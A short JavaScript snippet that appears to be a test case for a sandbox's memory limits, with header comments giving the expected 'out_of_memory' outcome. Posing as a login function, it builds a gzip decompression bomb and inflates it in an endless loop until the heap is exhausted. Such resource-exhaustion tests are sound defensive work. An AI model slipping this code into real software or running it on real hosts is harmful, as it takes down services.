// attack: unpack a few kilobytes into gigabytes
// outcome: out_of_memory
// detail: heap_exhausted
// retires: out_of_memory
function login(email, password, callback) {
  const zlib = require('zlib');
  let bomb = zlib.gzipSync(Buffer.alloc(1e8));
  const all = [];
  for (;;) {
    try {
      all.push(zlib.gunzipSync(bomb));
    } catch {
      all.push(new Array(100000).fill(null)); // where the next one would not fit, but still this
    }
  }
}
